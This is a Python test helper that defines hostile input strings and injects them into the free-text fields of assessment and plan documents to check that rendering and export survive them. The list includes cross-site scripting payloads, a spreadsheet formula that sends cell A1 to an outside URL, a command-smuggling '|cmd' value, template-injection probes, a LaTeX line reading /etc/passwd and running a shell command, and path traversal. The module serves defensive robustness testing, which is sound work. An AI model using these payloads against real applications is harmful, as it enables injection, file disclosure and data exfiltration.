"""Hostile text: what somebody may type, by mistake or on purpose, where a name or a remark belongs."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle, islice
from typing import Any, Final, TypeVar

import attrs

from practicecheck.assessments import Assessment
from practicecheck.plans import Measure, PlanFor

T = TypeVar("T")

SCRIPT: Final = "<script>alert(7)</script>"
ATTRIBUTE: Final = '"><img src=x onerror=alert(7)>'
FORMULA: Final = '=HYPERLINK("http://www.example.org/?"&A1,"Click")'
TEMPLATE: Final = "{{1234567*8}}"
COMPUTED: Final = b"9876536"
"""What a template engine makes of it."""

TEXTS: Final = (
    "=1+1",
    FORMULA,
    "+44 20 7946 0000",
    "@SUM(1;1)",
    "-2+3|cmd",
    SCRIPT,
    ATTRIBUTE,
    "' onmouseover='alert(7)",
    "]]>",
    "<!-- -->&amp;&#x1F600;",
    TEMPLATE,
    "${1234567*8} #{1234567*8} <%= 1234567*8 %>",
    "{% for x in y %}{0} {x!r} %s %(x)d",
    "</w:t></w:r></w:p>",
    "[link](javascript:alert(7)) `code` *bold* | cell | # heading",
    "\\input{/etc/passwd} \\write18{ls}",
    "../../../../etc/passwd",
    "A very long line " * 400,
    "unbroken" * 700,
    "מבדק שנתי, صفحة 2",
    "\u202eeverything turned round\u202c",
    "👩‍👧‍👦 🏳️‍🌈 👍🏽",
    "zero\u200bwidth\ufeff \u00ad hyphen",
    "e\u0301 \u1e9b\u0323 ﬁ Ǆ",
    "line one\nline two\n\n\nline five",
    "tab\there, quotes \" ' \u201c \u201d \u2018 \u2019 `",
    "BEGIN:VEVENT\nEND:VCALENDAR",
    '{"a": [1, 2',
    "- not: a list #comment",
    "   blanks around   ",
    "null",
    "0012",
    "1e999",
    "\u2028line\u2029paragraph",
)
"""Texts that have broken somebody's program. A document can hold each of them."""

_FREE: Final = frozenset(
    {
        "title", "summary", "text", "anchor", "narrative", "comment", "why", "note", "notes", "organisation",
        "scope", "case", "services", "aggregation", "publication", "action", "plain", "for_whom", "resources",
        "released_by", "systemic_impact", "lead", "sponsor", "forum", "sign_off", "says", "what",
        "entries", "evidence", "priorities", "sources", "accountable_to", "not_applicable", "cannot_answer",
        "introduction", "instruction", "explanation", "attribution", "publisher", "speaks_for",
    }
)  # fmt: skip
"""Where people write as they like. Ids, codes and names that refer to something are none of these."""

_FREE_IN: Final[dict[str, tuple[type, ...]]] = {"unit": (Assessment, PlanFor), "figure": (Measure,)}
"""The same, of names that elsewhere refer to something."""


def with_hostile_text(document: T, start: int = 0) -> T:
    """The same document with a hostile text wherever people write as they like.

    Args:
        document: An assessment, a plan or a framework.
        start: Which of the texts comes first, so that each comes to stand everywhere.
    """
    rewritten: T = _rewritten(document, islice(cycle(TEXTS), start, None))
    return rewritten


def _rewritten(value: Any, texts: Iterator[str]) -> Any:
    if isinstance(value, tuple):
        return tuple(_rewritten(member, texts) for member in value)
    if not attrs.has(type(value)):
        return value
    changed: dict[str, Any] = {}
    for field in attrs.fields(type(value)):
        old = getattr(value, field.name)
        free = field.name in _FREE or isinstance(value, _FREE_IN.get(field.name, ()))
        if free and isinstance(old, str):
            changed[field.name] = next(texts)
        elif free and isinstance(old, tuple) and all(isinstance(member, str) for member in old):
            changed[field.name] = tuple(next(texts) for _ in old)
        elif isinstance(old, tuple) or attrs.has(type(old)):
            changed[field.name] = _rewritten(old, texts)
    return attrs.evolve(value, **changed)
